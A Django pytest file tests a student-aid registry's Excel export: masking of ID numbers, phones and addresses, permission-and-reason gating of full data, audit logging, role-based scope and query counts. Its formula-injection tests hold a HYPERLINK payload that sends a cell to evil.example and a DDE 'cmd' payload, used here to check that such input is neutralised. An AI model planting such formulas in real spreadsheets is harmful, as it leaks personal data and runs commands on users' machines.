"""Registry export to Excel, as a job: masked unless asked and allowed, audited, scoped, printable, in
fixed queries. The form's post starts the job (run at commit, eagerly, as the embedded set-up does)
and takes the user to their exports; the file is read back by its owner's download."""

import io
import zipfile
from dataclasses import dataclass
from datetime import date
from functools import cached_property
from urllib.parse import quote

import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from aidsys.models import AuditEvent, Job, User
from reports.models import ReportExport
from students.exports import export_students, registry_columns, registry_rows
from students.models import HouseholdMember, Identification, OfficialList, Relation, SpecialGroupFlag, Tier
from students.resources import StudentResource
from tests.factories import HouseholdFactory, SchoolClassFactory, StudentFactory

Action = AuditEvent.Action
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def registered_student(cast, school_class, name="王小明", official_list=None):
    household = HouseholdFactory(township="青山镇", village="枫树村", address_detail="三组12号")
    student = StudentFactory(
        school_class=school_class,
        household=household,
        name=name,
        guardian_name="王大山",
        guardian_relation=Relation.FATHER,
        guardian_phone="13812345678",
        boarder=True,
    )
    HouseholdMember.objects.create(household=household, name="王大山", relation=Relation.FATHER, annual_income=9000)
    HouseholdMember.objects.create(household=household, name=name, relation=Relation.SELF, annual_income=0)
    if official_list is not None:
        SpecialGroupFlag.objects.create(
            household=household,
            group="minimum_living",
            source=SpecialGroupFlag.Source.OFFICIAL_LIST,
            official_list=official_list,
            list_name=official_list.name,
            list_date=official_list.list_date,
        )
    Identification.objects.create(
        student=student, school_year=school_class.school_year, tier=Tier.DIFFICULT, decided_on=date(2026, 10, 20)
    )
    return student


def dibao_list(cast):
    return OfficialList.objects.create(
        kind=OfficialList.Kind.MINIMUM_LIVING,
        name="民政局低保名单",
        list_date=date(2026, 10, 1),
        county=cast.county,
        school=cast.school,
        file_name="低保.xlsx",
        uploaded_by=cast.li,
    )


def with_reveal_permission(user) -> User:
    user.user_permissions.add(Permission.objects.get(codename="reveal_sensitive"))
    return User.objects.get(pk=user.pk)  # a fresh object: Django caches permissions on the old one


@dataclass
class Exported:
    """The form's post, the export it started and the file its owner downloads."""

    response: object
    export: ReportExport
    download: object

    @cached_property
    def content(self) -> bytes:
        return b"".join(self.download.streaming_content)


@pytest.fixture
def post(django_capture_on_commit_callbacks):
    """Post as `user`; the job the post starts runs when its transaction commits."""

    def post(user, url, client_for, **data):
        with django_capture_on_commit_callbacks(execute=True):
            return client_for(user).post(url, data)

    return post


@pytest.fixture
def exports(post):
    """Post the export form as `user`, check that it started a job and sent them to their exports,
    and download the file the job wrote."""

    def exports(user, url, client_for, **data) -> Exported:
        response = post(user, url, client_for, **data)
        assert response.status_code == 302 and response["Location"] == "/exports/"
        export = ReportExport.objects.filter(owner=user).latest("pk")
        assert export.job.status == Job.Status.DONE, export.job.message
        download = client_for(user).get(f"/exports/{export.pk}/download/")
        assert download.status_code == 200 and download["Content-Type"] == XLSX
        return Exported(response, export, download)

    return exports


def sheet_of(exported: Exported):
    return load_workbook(io.BytesIO(exported.content)).active


def cell_texts(exported: Exported) -> list[str]:
    texts = []
    for sheet in load_workbook(io.BytesIO(exported.content)).worksheets:
        texts += [str(value) for row in sheet.iter_rows(values_only=True) for value in row if value is not None]
    return texts


def raw_parts(exported: Exported) -> str:
    """Every part of the .xlsx package as text: cells, shared strings, properties, print titles."""
    with zipfile.ZipFile(io.BytesIO(exported.content)) as package:
        return "".join(package.read(name).decode("utf-8", "replace") for name in package.namelist())


@pytest.fixture
def pupil(cast):
    return registered_student(cast, cast.class_1, official_list=dibao_list(cast))


def class_url(school_class):
    return f"/classes/{school_class.pk}/export/"


def school_url(school):
    return f"/schools/{school.pk}/export/"


HEADING_ROW, FIRST_ROW = 3, 4


class TestMaskedExport:
    def test_a_class_export_is_masked_everywhere_in_the_workbook(self, cast, client_for, pupil, exports):
        exported = exports(cast.wang, class_url(cast.class_1), client_for)
        texts = cell_texts(exported)
        assert "王小明" in texts and "4399**********" + pupil.id_number[-4:] in texts
        raw = raw_parts(exported)
        for secret in (pupil.id_number, "13812345678", "枫树村", "三组12号"):
            assert all(secret not in text for text in texts), secret
            assert secret not in raw, secret
        assert not any("4500" in text or "4,500" in text for text in texts)
        assert "138****5678" in texts and "青山镇" in texts

    def test_the_masks_are_the_rosters_own(self, cast, pupil):
        pupil.student_number = "G" + pupil.id_number
        pupil.save()
        students = export_students(user=cast.li, school=cast.school, school_class=cast.class_1)
        row = next(registry_rows(students))
        resource = StudentResource(masked=True)
        expected = dict(zip(resource.get_export_order(), resource.export_resource(pupil), strict=True))
        masked = {
            column.key: column.mask(row[column.key]) if column.mask and row[column.key] not in (None, "") else None
            for column in registry_columns()
        }
        for key in ("id_number", "student_number", "guardian_phone", "village", "address_detail"):
            assert masked[key] == expected[key], key
        assert masked["income"] == "****" and row["income"] == 4500

    def test_starting_the_export_is_an_audit_event_and_so_is_the_download(self, cast, client_for, pupil, exports):
        exported = exports(cast.wang, class_url(cast.class_1), client_for)
        started, downloaded = AuditEvent.objects.filter(action=Action.EXPORT).order_by("pk")
        assert (started.actor, started.school, started.object_id) == (cast.wang, cast.school, str(exported.export.pk))
        assert started.changes["export"] == [None, "masked"]
        assert started.changes["report"] == [None, "学生信息"]
        assert started.changes["parameters"][1]["class_id"] == cast.class_1.pk
        assert downloaded.changes["rows"] == [None, 1] and downloaded.changes["export"] == [None, "masked"]

    def test_the_user_lands_on_their_exports_with_the_file(self, cast, client_for, pupil, post):
        response = post(cast.wang, class_url(cast.class_1), client_for)
        page = client_for(cast.wang).get(response["Location"]).content.decode()
        export = ReportExport.objects.get()
        assert export.job.done == export.job.total == export.rows == 1
        assert export.file_name in page and f"/exports/{export.pk}/download/" in page

    def test_the_file_name_names_the_school_the_class_the_year_and_the_day(self, cast, client_for, pupil, exports):
        exported = exports(cast.li, class_url(cast.class_1), client_for)
        today = timezone.localdate().strftime("%Y%m%d")
        name = f"学生信息_青山县实验小学_一年级(1)班_2026–2027学年_{today}.xlsx"
        assert exported.export.file_name == name
        assert quote(name, safe="") in exported.download["Content-Disposition"]
        assert exported.download["Cache-Control"] == "private, no-store"

    def test_the_workbook_is_set_up_for_printing(self, cast, client_for, pupil, exports):
        sheet = sheet_of(exports(cast.li, class_url(cast.class_1), client_for))
        assert sheet.page_setup.orientation == "landscape"
        assert int(sheet.page_setup.paperSize) == int(sheet.PAPERSIZE_A4) == 9
        assert sheet.freeze_panes == "A4"
        assert sheet.print_title_rows == "$1:$3"
        assert int(sheet.page_setup.fitToWidth) == 1 and int(sheet.page_setup.fitToHeight) == 0
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet["A1"].value == "学生信息"
        assert "青山县实验小学 一年级(1)班" in sheet["A2"].value and "已脱敏" in sheet["A2"].value
        assert sheet["A3"].border.left.style == "thin"
        assert sheet.column_dimensions["D"].width >= 18  # room for an 18-character 身份证号

    def test_the_columns_are_the_imports_plus_special_groups_tier_and_income(self, cast, client_for, pupil, exports):
        sheet = sheet_of(exports(cast.li, class_url(cast.class_1), client_for))
        headers = [cell.value for cell in sheet[HEADING_ROW]]
        row = dict(zip(headers, [cell.value for cell in sheet[FIRST_ROW]], strict=True))
        assert headers == [
            "序号", "姓名", "性别", "身份证号", "学籍号", "民族", "年级", "班级", "户籍性质", "是否寄宿", "监护人姓名",
            "监护人关系", "监护人电话", "学籍状态", "乡镇", "村", "详细地址", "特殊群体", "认定档次", "家庭人均年收入",
        ]  # fmt: skip
        assert row["序号"] == 1 and row["姓名"] == "王小明" and row["是否寄宿"] == "是"
        assert row["监护人关系"] == "父亲" and row["班级"] == "一年级(1)班"
        assert "民政局低保名单 2026-10-01" in row["特殊群体"]
        assert row["认定档次"] == str(Tier.DIFFICULT.label)
        assert row["家庭人均年收入"] == "****" and row["村"] == "****" and row["乡镇"] == "青山镇"
        assert sheet.max_row == FIRST_ROW  # one student; no totals row

    def test_a_tier_of_another_school_year_is_not_shown(self, cast, client_for, pupil, exports):
        from aidsys.models import SchoolYear

        Identification.objects.filter(student=pupil).update(school_year=SchoolYear.objects.create(start_year=2025))
        sheet = sheet_of(exports(cast.li, class_url(cast.class_1), client_for))
        assert sheet.cell(row=FIRST_ROW, column=19).value is None


class TestFullExport:
    def test_full_data_needs_the_permission_the_tick_and_a_reason(self, cast, client_for, pupil, exports):
        li = with_reveal_permission(cast.li)
        exported = exports(li, class_url(cast.class_1), client_for, full_data="on", reason="县资助中心核对低保学生")
        texts = cell_texts(exported)
        assert pupil.id_number in texts and "13812345678" in texts and "枫树村" in texts
        income = sheet_of(exported).cell(row=FIRST_ROW, column=20)
        assert income.value == 4500 and income.number_format == "#,##0.00"
        assert exported.export.full and exported.export.reason == "县资助中心核对低保学生"
        for event in AuditEvent.objects.filter(action=Action.EXPORT):
            assert event.reason == "县资助中心核对低保学生" and event.changes["export"] == [None, "full"]

    def test_with_the_permission_but_no_tick_the_export_is_masked(self, cast, client_for, pupil, exports):
        exported = exports(with_reveal_permission(cast.li), class_url(cast.class_1), client_for, reason="")
        assert pupil.id_number not in raw_parts(exported) and not exported.export.full

    def test_full_data_without_a_reason_is_refused_beside_the_field(self, cast, client_for, pupil, post):
        response = post(
            with_reveal_permission(cast.li), class_url(cast.class_1), client_for, full_data="on", reason=" "
        )
        assert response.status_code == 200 and response["Content-Type"].startswith("text/html")
        assert "invalid-feedback" in response.content.decode()
        assert not AuditEvent.objects.filter(action=Action.EXPORT).exists()
        assert not ReportExport.objects.exists()

    def test_asking_for_full_data_without_the_permission_is_refused(self, cast, client_for, pupil, post):
        response = post(cast.li, class_url(cast.class_1), client_for, full_data="on", reason="想看")
        assert response.status_code == 403
        assert not AuditEvent.objects.filter(action=Action.EXPORT).exists()
        assert not ReportExport.objects.exists()

    def test_the_tick_is_offered_only_with_the_permission(self, cast, client_for, pupil):
        assert 'name="full_data"' not in client_for(cast.li).get(class_url(cast.class_1)).content.decode()
        assert (
            'name="full_data"'
            in client_for(with_reveal_permission(cast.li)).get(class_url(cast.class_1)).content.decode()
        )


class TestFormulaInjection:
    def test_names_that_start_like_formulas_are_exported_as_text(self, cast, client_for, pupil, exports):
        pupil.name = '=HYPERLINK("http://evil.example/?"&D4,"点击")'
        pupil.guardian_name = "@SUM(1+1)"
        pupil.save()
        exported = exports(
            with_reveal_permission(cast.li), class_url(cast.class_1), client_for, full_data="on", reason="核对"
        )
        assert "<f>" not in raw_parts(exported)
        row = sheet_of(exported)[FIRST_ROW]
        cells = {cell.value: cell for cell in row}
        for text in (pupil.name, "@SUM(1+1)"):
            assert cells[text].data_type == "s" and cells[text].quotePrefix
        assert cells[1].data_type == "n"  # the row number stays a number

    def test_a_guardian_name_a_class_teacher_typed_as_a_formula_reaches_the_full_export_as_text(
        self, cast, client_for, pupil, exports
    ):
        formula = "=cmd|' /C calc'!A0"
        edited = client_for(cast.wang).post(
            f"/students/{pupil.pk}/edit/", {"hukou": pupil.hukou, "guardian_name": formula, "guardian_relation": ""}
        )
        assert edited.status_code == 302
        exported = exports(
            with_reveal_permission(cast.li), school_url(cast.school), client_for, full_data="on", reason="核对"
        )
        assert "<f>" not in raw_parts(exported)
        cell = next(cell for row in sheet_of(exported).iter_rows() for cell in row if cell.value == formula)
        assert cell.data_type == "s" and cell.quotePrefix


class TestExportScope:
    def test_a_class_teacher_exports_their_own_class_only(self, cast, client_for, pupil, post):
        assert client_for(cast.wang).get(class_url(cast.class_1)).status_code == 200
        assert post(cast.wang, class_url(cast.class_2), client_for).status_code == 404
        assert post(cast.wang, school_url(cast.school), client_for).status_code == 403
        assert not ReportExport.objects.exists()

    def test_the_aid_office_and_the_principal_export_their_school_or_any_class_of_it(
        self, cast, client_for, pupil, post, exports
    ):
        registered_student(cast, cast.class_2, name="李小红")
        for user in (cast.li, cast.zhang):
            whole = cell_texts(exports(user, school_url(cast.school), client_for))
            assert "王小明" in whole and "李小红" in whole
            one_class = cell_texts(exports(user, class_url(cast.class_2), client_for))
            assert "李小红" in one_class and "王小明" not in one_class
            assert post(user, school_url(cast.sibling_school), client_for).status_code == 404

    def test_county_staff_export_any_school_of_their_county(self, cast, client_for, pupil, post, exports):
        exported = exports(cast.zhao, school_url(cast.sibling_school), client_for)
        assert exported.export.school == cast.sibling_school and exported.export.county == cast.county
        assert post(cast.zhao, school_url(cast.other_school), client_for).status_code == 404
        assert post(cast.zhao, class_url(cast.other_class), client_for).status_code == 404

    def test_a_teacher_of_another_county_finds_nothing(self, cast, client_for, pupil, post):
        assert post(cast.outsider, class_url(cast.class_1), client_for).status_code == 404
        assert post(cast.outsider, school_url(cast.school), client_for).status_code == 404
        assert not AuditEvent.objects.filter(action=Action.EXPORT).exists()
        assert not ReportExport.objects.exists()

    def test_the_file_is_its_owners_alone(self, cast, client_for, pupil, exports):
        exported = exports(cast.li, class_url(cast.class_1), client_for)
        for user in (cast.zhang, cast.wang, cast.zhao):
            assert client_for(user).get(f"/exports/{exported.export.pk}/download/").status_code == 404

    def test_students_no_longer_on_roll_are_left_out(self, cast, client_for, pupil, exports):
        gone = registered_student(cast, cast.class_1, name="刘洋")
        gone.status = "graduated"
        gone.save()
        assert "刘洋" not in cell_texts(exports(cast.li, class_url(cast.class_1), client_for))

    def test_it_answers_only_get_and_post(self, cast, client_for):
        assert client_for(cast.li).put(class_url(cast.class_1)).status_code == 405
        assert client_for(cast.li).delete(school_url(cast.school)).status_code == 405


class TestExportQueries:
    def count_queries(self, user, url, client_for, post) -> int:
        with CaptureQueriesContext(connection) as queries:
            response = post(user, url, client_for, full_data="on", reason="核对")
        assert response.status_code == 302
        assert ReportExport.objects.latest("pk").job.status == Job.Status.DONE
        return len(queries)

    def test_the_query_count_of_starting_and_writing_does_not_grow_with_the_rows(self, cast, client_for, post):
        school_list = dibao_list(cast)
        second_class = SchoolClassFactory(school=cast.school, school_year=cast.school_year, grade=22, number=1)
        for index in range(10):
            registered_student(cast, cast.class_1 if index % 2 else second_class, official_list=school_list)
        li = with_reveal_permission(cast.li)
        self.count_queries(li, school_url(cast.school), client_for, post)  # the first fills Django's own caches
        ten = self.count_queries(li, school_url(cast.school), client_for, post)
        for _index in range(30):
            registered_student(cast, cast.class_1, official_list=school_list)
        forty = self.count_queries(li, school_url(cast.school), client_for, post)
        assert ten == forty
        assert ReportExport.objects.latest("pk").rows == 40
